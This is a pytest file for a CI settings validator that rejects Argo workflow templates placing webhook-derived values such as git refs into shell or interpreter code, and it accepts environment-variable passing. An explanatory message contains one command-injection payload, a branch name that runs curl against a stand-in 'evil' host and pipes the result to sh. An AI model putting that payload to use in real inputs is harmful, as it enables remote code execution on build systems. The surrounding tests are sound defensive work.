"""Templates that hand event-derived values to a shell or an interpreter are refused at preview, naming the file, the
template and the parameter; the environment (the fix) and plain commands pass."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from settings.config import ConfigError, parse_settings
from settings.injection import FIX, code_positions, injection_problems
from settings.templates import load_template
from tests.harness import PROJECT_ROOT, stack_config

INJECTION_NOTE = "which parses it as code (a branch named x$(curl${IFS}evil|sh) would run); " + FIX


def template_file(tmp_path: Path, templates: list[dict[str, Any]], parameters: tuple[Any, ...] = ("git_ref",)) -> Path:
    document = {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "WorkflowTemplate",
        "metadata": {"name": "t"},
        "spec": {
            "entrypoint": templates[0]["name"],
            "arguments": {"parameters": [p if isinstance(p, dict) else {"name": p} for p in parameters]},
            "templates": templates,
        },
    }
    path = tmp_path / "t.yaml"
    path.write_text(yaml.safe_dump(document))
    return path


def refused(tmp_path: Path, templates: list[dict[str, Any]], **pipeline: Any) -> list[str]:
    path = template_file(tmp_path, templates, pipeline.pop("declared", ("git_ref",)))
    config = stack_config(pipelines=[{"name": "p", "template": str(path), "events": ["push"], **pipeline}])
    with pytest.raises(ConfigError) as raised:
        parse_settings(config, PROJECT_ROOT)
    return raised.value.problems


def accepted(tmp_path: Path, templates: list[dict[str, Any]], **pipeline: Any) -> None:
    path = template_file(tmp_path, templates, pipeline.pop("declared", ("git_ref",)))
    config = stack_config(pipelines=[{"name": "p", "template": str(path), "events": ["push"], **pipeline}])
    parse_settings(config, PROJECT_ROOT)


def container(command: list[str] | None = None, args: list[str] | None = None, **extra: Any) -> dict[str, Any]:
    body: dict[str, Any] = {"image": "alpine:3.20", **extra}
    if command is not None:
        body["command"] = command
    if args is not None:
        body["args"] = args
    return body


REF = "{{workflow.parameters.git_ref}}"


def test_a_script_source_with_an_event_value_is_refused_with_file_template_parameter_and_fix(tmp_path: Path) -> None:
    found = refused(
        tmp_path, [{"name": "build", "script": {"image": "alpine:3.20", "command": ["sh"], "source": f"echo {REF}"}}]
    )
    assert found == [
        f"argo-github-webhooks:pipelines[0] (p).template ({tmp_path / 't.yaml'}): template 'build': script.source puts "
        f"the event-derived parameter 'git_ref' ({REF}) into the script's source, {INJECTION_NOTE}"
    ]


@pytest.mark.parametrize(
    ("command", "args", "where", "parsed_by"),
    [
        (["sh", "-c"], [f"git checkout {REF}"], "container.args[0]", "sh -c"),
        (["sh", "-euc", f"echo {REF}"], None, "container.command[2]", "sh -c"),
        (["/bin/bash"], ["-o", "pipefail", "-c", f"echo {REF}"], "container.args[3]", "bash -c"),
        (None, ["ash", "-c", f"echo {REF}"], "container.args[2]", "ash -c"),
        (["dash", "-ec", f"echo {REF}"], None, "container.command[2]", "dash -c"),
        (["zsh", "-c", f"echo {REF}"], None, "container.command[2]", "zsh -c"),
        (["ksh", "-c", f"echo {REF}"], None, "container.command[2]", "ksh -c"),
        (["/usr/bin/env", "FOO=1", "sh", "-c", f"echo {REF}"], None, "container.command[4]", "sh -c"),
        (["env", "-i", "bash", "-lc", f"echo {REF}"], None, "container.command[4]", "bash -c"),
        (["busybox", "sh", "-c", f"echo {REF}"], None, "container.command[3]", "sh -c"),
        (["timeout", "30", "sh", "-c", f"echo {REF}"], None, "container.command[4]", "sh -c"),
        (["python3", "-c", f"print('{REF}')"], None, "container.command[2]", "python -c"),
        (["node", "-e", f"console.log('{REF}')"], None, "container.command[2]", "node -e"),
        (["perl", "-e", f"print '{REF}'"], None, "container.command[2]", "perl -e"),
        (["awk", f"BEGIN {{ print \"{REF}\" }}"], None, "container.command[1]", "awk's program text"),
        ([REF], None, "container.command[0]", "the command name"),
    ],
)
def test_every_shell_shape_is_refused(
    tmp_path: Path, command: list[str] | None, args: list[str] | None, where: str, parsed_by: str
) -> None:
    (problem,) = refused(tmp_path, [{"name": "run", "container": container(command, args)}])
    assert f"template 'run': {where} puts the event-derived parameter 'git_ref' ({REF}) into {parsed_by}," in problem


@pytest.mark.parametrize(
    ("reference", "parameter"),
    [
        ("{{ workflow.parameters.git_ref }}", "git_ref"),
        ("{{=workflow.parameters.git_ref}}", "git_ref"),
        ("{{=sprig.trim(workflow.parameters['git_ref'])}}", "git_ref"),
        ("{{workflow.parameters.json}}", "git_ref"),
    ],
)
def test_every_way_of_writing_the_reference_is_found(tmp_path: Path, reference: str, parameter: str) -> None:
    (problem,) = refused(tmp_path, [{"name": "run", "container": container(["sh", "-c", f"echo {reference}"])}])
    assert f"parameter {parameter!r} ({reference})" in problem


def test_inputs_passed_on_by_steps_and_dags_are_followed(tmp_path: Path) -> None:
    templates = [
        {
            "name": "main",
            "steps": [
                [{"name": "a", "template": "middle", "arguments": {"parameters": [{"name": "ref", "value": REF}]}}]
            ],
        },
        {
            "name": "middle",
            "inputs": {"parameters": [{"name": "ref"}]},
            "dag": {
                "tasks": [
                    {
                        "name": "b",
                        "template": "leaf",
                        "arguments": {"parameters": [{"name": "branch", "value": "x-{{inputs.parameters.ref}}"}]},
                    },
                    {
                        "name": "c",
                        "template": "safe",
                        "arguments": {"parameters": [{"name": "branch", "value": "{{inputs.parameters.ref}}"}]},
                    },
                ]
            },
        },
        {
            "name": "leaf",
            "inputs": {"parameters": [{"name": "branch"}]},
            "script": {"image": "alpine:3.20", "command": ["sh"], "source": "echo {{inputs.parameters.branch}}"},
        },
        {
            "name": "safe",
            "inputs": {"parameters": [{"name": "branch"}]},
            "container": container(["sh", "-c", 'echo "$B"'], env=[{"name": "B", "value": "{{inputs.parameters.branch}}"}]),
        },
    ]
    (problem,) = refused(tmp_path, templates)
    assert "template 'leaf': script.source puts the event-derived parameter 'git_ref' " in problem
    assert "({{inputs.parameters.branch}}, fed from 'git_ref')" in problem


def test_items_of_a_loop_over_an_event_value_are_followed(tmp_path: Path) -> None:
    templates = [
        {
            "name": "main",
            "steps": [
                [
                    {
                        "name": "each",
                        "template": "leaf",
                        "withParam": "{{workflow.parameters.files}}",
                        "arguments": {"parameters": [{"name": "file", "value": "{{item.path}}"}]},
                    }
                ]
            ],
        },
        {
            "name": "leaf",
            "inputs": {"parameters": [{"name": "file"}]},
            "container": container(["sh", "-c", "cat {{inputs.parameters.file}}"]),
        },
    ]
    (problem,) = refused(tmp_path, templates, declared=("files",), parameters={"files": "commits"})
    assert "template 'leaf': container.command[2] puts the event-derived parameter 'files'" in problem


def test_entrypoint_inputs_and_mapped_parameters_are_event_derived(tmp_path: Path) -> None:
    templates = [
        {
            "name": "main",
            "inputs": {"parameters": [{"name": "title"}]},
            "container": container(["bash", "-c", "echo {{inputs.parameters.title}}"]),
        }
    ]
    (problem,) = refused(tmp_path, templates, declared=(), parameters={"title": "head_commit.message"})
    assert "template 'main': container.command[2] puts the event-derived parameter 'title'" in problem


def test_init_containers_sidecars_probes_and_hooks_are_checked(tmp_path: Path) -> None:
    shell = ["sh", "-c", f"echo {REF}"]
    templates = [
        {
            "name": "main",
            "container": container(["echo", "ok"], lifecycle={"postStart": {"exec": {"command": shell}}}),
            "initContainers": [{"name": "clone", **container(shell)}],
            "sidecars": [{"name": "side", **container(["sleep", "1"], readinessProbe={"exec": {"command": shell}})}],
        }
    ]
    wheres = sorted(problem.split("': ")[1].split(" puts")[0] for problem in refused(tmp_path, templates))
    assert wheres == [
        "container.lifecycle.postStart.exec.command[2]",
        "initContainers[clone].command[2]",
        "sidecars[side].readinessProbe.exec.command[2]",
    ]


def test_the_environment_and_plain_arguments_pass(tmp_path: Path) -> None:
    templates = [
        {
            "name": "main",
            "container": container(
                ["sh", "-c", 'git checkout "$REF" && echo "$1"', "sh", REF],  # positional: never parsed
                env=[{"name": "REF", "value": REF}],
            ),
            "initContainers": [{"name": "echo", **container(["echo", REF])}, {"name": "g", **container(["git"], [REF])}],
        }
    ]
    accepted(tmp_path, templates)
    # A parameter the pipeline neither maps nor knows is not event-derived.
    accepted(
        tmp_path,
        [{"name": "main", "container": container(["sh", "-c", "echo {{workflow.parameters.mode}}"])}],
        declared=({"name": "mode", "value": "fast"},),
    )


@pytest.mark.parametrize("template", ["workflows/hello-world.yaml", "workflows/secret-scan.yaml"])
def test_the_shipped_templates_pass(template: str) -> None:
    loaded = load_template(PROJECT_ROOT / template)
    assert injection_problems(loaded, loaded.parameter_names) == []


def test_the_readme_examples_pass(tmp_path: Path) -> None:
    """Every WorkflowTemplate in docs/security.md's YAML blocks passes the check with all its parameters event-derived."""
    readme = (PROJECT_ROOT / "docs" / "security.md").read_text()
    blocks = [block.split("```", 1)[0] for block in readme.split("```yaml\n")[1:]]
    documents = [yaml.safe_load(block) for block in blocks if "kind: WorkflowTemplate" in block]
    assert documents, "docs/security.md shows a WorkflowTemplate"
    for index, document in enumerate(documents):
        path = tmp_path / f"readme-{index}.yaml"
        path.write_text(yaml.safe_dump(document))
        loaded = load_template(path)
        assert injection_problems(loaded, loaded.parameter_names) == []


def test_code_positions() -> None:
    assert code_positions(["sh", "script.sh", "arg"]) == [(0, "the command name"), (1, "the shell's script path")]
    assert code_positions(["sh", "-c", "cmd", "name", "arg"]) == [(0, "the command name"), (2, "sh -c")]
    assert code_positions(["python", "-cprint(1)"]) == [(0, "the command name"), (1, "python -c")]
    assert code_positions(["echo", "hello"]) == [(0, "the command name")]
    assert code_positions([]) == []
